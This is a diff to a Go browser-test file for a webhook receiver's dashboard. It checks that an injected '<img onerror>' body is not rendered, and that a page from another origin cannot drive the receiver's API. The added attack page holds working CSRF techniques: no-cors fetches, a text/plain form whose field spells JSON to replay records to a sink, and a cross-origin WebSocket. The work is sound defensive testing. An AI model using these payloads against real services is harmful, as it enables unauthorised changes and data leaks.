@@ -3,8 +3,12 @@ package receiver_test
 import (
 	"context"
 	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -76,14 +80,18 @@ func TestDashboardInABrowser(t *testing.T) {
 	assert.Contains(t, shown, `<img src=x onerror=\"window.__xss = 2\">`)
 	assert.Contains(t, text(ctx, t, "#d-headers"), "X-Service-Signature: t=")
 	assert.Contains(t, text(ctx, t, "#d-curl"), "curl -X POST '"+rv.URL()+"/hooks/merchant_demo'")
-	time.Sleep(200 * time.Millisecond) // give an injected image the time to fail
+	// Had the body been parsed as HTML, its elements would be in the page
+	// now (an image's onerror runs later, but the image is there at once).
+	assert.Equal(t, 0, eval[int](ctx, t, `document.querySelectorAll("img, script:not([src]), [onerror]").length`), "no element from the body")
 	assert.True(t, eval[bool](ctx, t, `window.__xss === undefined`), "nothing from the body ran")
 	assert.Equal(t, 0, eval[int](ctx, t, `document.querySelectorAll("main img, main script, #detail *:not(h2):not(h3):not(p):not(pre):not(span):not(button):not(div)").length`))
 
 	// Pause holds new rows back; resume shows them.
 	require.NoError(t, chromedp.Do(ctx, chromedp.Click(chromedp.CSS("#pause"))))
 	signedPost(t, rv, "merchant_demo", notification(firmakit.StateCreated, "ev-paused", "sig-4"))
-	require.Eventually(t, func() bool { return strings.Contains(text(ctx, t, "#counts"), "1 waiting") }, 5*time.Second, 50*time.Millisecond)
+	_, err := chromedp.Run(ctx, chromedp.Poll[bool](`document.getElementById("counts").textContent.includes("1 waiting")`,
+		chromedp.WithPollingTimeout(5*time.Second)))
+	require.NoError(t, err, "the paused row is counted as waiting")
 	assert.Equal(t, 0, eval[int](ctx, t, `document.querySelectorAll('#rows tr[data-id="4"]').length`))
 	require.NoError(t, chromedp.Do(ctx, chromedp.Click(chromedp.CSS("#pause")),
 		chromedp.WaitVisible(chromedp.CSS(`#rows tr[data-id="4"]`))))
@@ -114,4 +122,104 @@ func TestDashboardInABrowser(t *testing.T) {
 	require.NoError(t, chromedp.Do(ctx, chromedp.WaitVisible(chromedp.CSS(`#rows tr[data-id="6"]`))))
 	assert.Equal(t, "BOUNCED", text(ctx, t, `#rows tr[data-id="5"] .badge.state-BOUNCED`))
 	assert.Equal(t, []int{6, 5, 4, 3, 2, 1}, eval[[]int](ctx, t, `[...document.querySelectorAll("#rows tr")].map(r => +r.dataset.id)`))
+}
+
+// attackPage is served from another origin (another port of 127.0.0.1, so
+// the same site): it tries every call that would change the receiver, as a
+// page a developer happens to open could. RV and SINK are replaced.
+const attackPage = `<!doctype html><html><body><script>
+window.results = {};
+const RV = "{{RV}}", SINK = "{{SINK}}";
+async function attempt(name, p) {
+  try { const r = await p; window.results[name] = r.type + ":" + r.status; }
+  catch (e) { window.results[name] = "error"; }
+}
+function submit(action, enctype, fields) {
+  return new Promise(function (res) {
+    const name = "f" + Math.random().toString(36).slice(2);
+    const frame = document.createElement("iframe");
+    frame.name = name;
+    document.body.appendChild(frame);
+    frame.onload = function () { res(); };
+    const f = document.createElement("form");
+    f.method = "POST"; f.action = RV + action; f.enctype = enctype; f.target = name;
+    Object.keys(fields).forEach(function (k) {
+      const i = document.createElement("input"); i.name = k; i.value = fields[k]; f.appendChild(i);
+    });
+    document.body.appendChild(f);
+    f.submit();
+  });
+}
+(async function () {
+  const plain = { mode: "no-cors", method: "POST", headers: { "Content-Type": "text/plain" } };
+  await attempt("replay", fetch(RV + "/api/events/1/replay", Object.assign({ body: JSON.stringify({ url: SINK + "/fetch" }) }, plain)));
+  await attempt("rule", fetch(RV + "/api/channels/merchant_demo/responses", Object.assign({ body: '{"status":503,"count":0}' }, plain)));
+  await attempt("demo", fetch(RV + "/api/demo", Object.assign({ body: '{"state":"SIGNED"}' }, plain)));
+  await attempt("contract", fetch(RV + "/api/contracts", Object.assign({ body: '{"signature_id":"s","created_at":"2026-01-01T00:00:00Z"}' }, plain)));
+  await attempt("rule-form", fetch(RV + "/api/channels/merchant_demo/responses", { mode: "no-cors", method: "POST", body: new URLSearchParams({ status: "503" }) }));
+  await attempt("replay-json", fetch(RV + "/api/events/1/replay", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ url: SINK + "/cors" }) }));
+  await attempt("delete", fetch(RV + "/api/events", { method: "DELETE" }));
+  // A text/plain form whose single field spells JSON: {"url":"…","x":"="}
+  await submit("/api/events/1/replay", "text/plain", { ['{"url":"' + SINK + '/form","x":"']: '"}' });
+  await submit("/api/channels/merchant_demo/responses", "application/x-www-form-urlencoded", { status: "503" });
+  await submit("/api/demo", "multipart/form-data", { state: "SIGNED" });
+  window.results.forms = "submitted";
+  window.results.ws = await new Promise(function (res) {
+    const ws = new WebSocket(RV.replace("http:", "ws:") + "/api/stream");
+    ws.onopen = function () { res("open"); };
+    ws.onerror = function () { res("refused"); };
+  });
+  window.done = true;
+})();
+</script></body></html>`
+
+// TestAnotherOriginCannotDriveTheReceiver opens, in headless Chromium, a
+// page from another origin that tries to replay a record to its own
+// server, set an answer rule, create a demo contract, note a contract,
+// delete the records and read the stream; nothing changes in the receiver.
+func TestAnotherOriginCannotDriveTheReceiver(t *testing.T) {
+	var sunk atomic.Int64
+	sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { sunk.Add(1) }))
+	defer sink.Close()
+	var demos atomic.Int64
+	rv := MustOpenReceiver(t, func(r *receiver.Receiver) {
+		r.Demo = func(ctx context.Context, st firmakit.State) (*firmakit.Envelope, error) {
+			demos.Add(1)
+			return &firmakit.Envelope{}, nil
+		}
+	})
+	signedPost(t, rv, "merchant_demo", notification(firmakit.StateSigned, "ev-1", "s"))
+	page := strings.NewReplacer("{{RV}}", rv.URL(), "{{SINK}}", sink.URL).Replace(attackPage)
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		io.WriteString(w, page)
+	}))
+	defer attacker.Close()
+
+	ctx := browser.New(t)
+	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(attacker.URL+"/")))
+	_, err := chromedp.Run(ctx, chromedp.Poll[bool](`window.done === true`, chromedp.WithPollingTimeout(20*time.Second)))
+	require.NoError(t, err, "the page did not finish its attempts")
+	results := eval[map[string]string](ctx, t, `window.results`)
+	t.Logf("what the page saw: %v", results)
+	// The simple requests reached the receiver (an opaque answer, not a
+	// network error); the others were stopped by the browser's preflight.
+	for _, name := range []string{"replay", "rule", "demo", "contract", "rule-form"} {
+		assert.Equal(t, "opaque:0", results[name], name)
+	}
+	assert.Equal(t, "error", results["replay-json"])
+	assert.Equal(t, "error", results["delete"])
+	assert.Equal(t, "submitted", results["forms"])
+	assert.Equal(t, "refused", results["ws"], "the stream refuses another origin")
+
+	assert.Equal(t, int64(0), sunk.Load(), "no replay was sent")
+	assert.Equal(t, int64(0), demos.Load(), "no demo contract was created")
+	rule, rules := getRules(t, rv, "merchant_demo")
+	assert.Nil(t, rule)
+	assert.Empty(t, rules, "no answer rule was set")
+	var rec receiver.Record
+	require.Equal(t, 200, getJSON(t, rv.URL()+"/api/events/1", &rec), "the records are still there")
+	assert.Empty(t, rec.ContractCreatedAt, "no contract was noted")
+	n, _ := rv.Count(context.Background())
+	assert.Equal(t, int64(1), n)
 }
